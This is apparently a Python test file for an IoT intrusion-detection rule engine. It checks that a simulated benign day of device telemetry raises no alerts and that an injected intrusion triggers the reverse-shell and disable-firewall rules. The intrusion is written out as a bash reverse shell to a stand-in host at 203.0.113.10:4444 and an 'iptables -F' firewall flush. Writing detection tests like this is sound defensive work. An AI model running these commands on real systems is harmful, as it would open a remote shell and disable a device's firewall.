"""A benign day of a simulated fleet raises no alert from the built-in catalogue."""

from __future__ import annotations

from collections import Counter
from dataclasses import replace
from datetime import timedelta

from iotsec.analytics import Observation
from iotsec.analytics.rules import RuleEngine, load_catalogue
from tests.analytics.catalogue.benign_day import DEVICES, benign_day
from tests.analytics.catalogue.casefile import CaseIntel

CATALOGUE = load_catalogue()


def _alerts(observations: list[Observation]) -> list[tuple[str, str, str]]:
    engine = RuleEngine(CATALOGUE, CaseIntel())
    fired = [
        (d.rule_id, d.device.device_id, d.description)
        for observation in observations
        for d in engine.observe(observation)
    ]
    engine.tick(observations[-1].time)
    return fired


def test_the_day_is_large_and_varied_enough_to_mean_something() -> None:
    day = benign_day()
    names = Counter(o.name for o in day)
    assert len(day) >= 500
    assert {o.device.device_id for o in day} >= set(DEVICES)
    for name in ("ProcessCreate", "ConnectionCreate", "Login", "ListeningPorts", "d2c"):
        assert names[name] > 0, name
    assert benign_day() == day  # the same stream on every run


def test_a_benign_day_raises_nothing() -> None:
    assert _alerts(benign_day()) == []


def test_the_same_day_with_an_intrusion_raises_just_that() -> None:
    day = benign_day()
    template = next(o for o in day if o.name == "ProcessCreate" and o.device.device_id == "gw-02")
    noon = day[0].time + timedelta(hours=12)
    intrusion = [
        replace(
            template,
            time=noon + timedelta(seconds=i),
            event_id=f"intrusion-{i}",
            fields={**template.fields, "Executable": exe, "CommandLine": cmd},
        )
        for i, (exe, cmd) in enumerate(
            [
                ("/bin/sh", "sh -c 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1'"),
                ("/usr/sbin/iptables", "iptables -F"),
            ]
        )
    ]
    alerts = _alerts(sorted([*day, *intrusion], key=lambda o: o.time))
    assert [(rule, device) for rule, device, _ in alerts] == [
        ("IoT_ReverseShell", "gw-02"),
        ("IoT_DisableFirewall", "gw-02"),
    ]
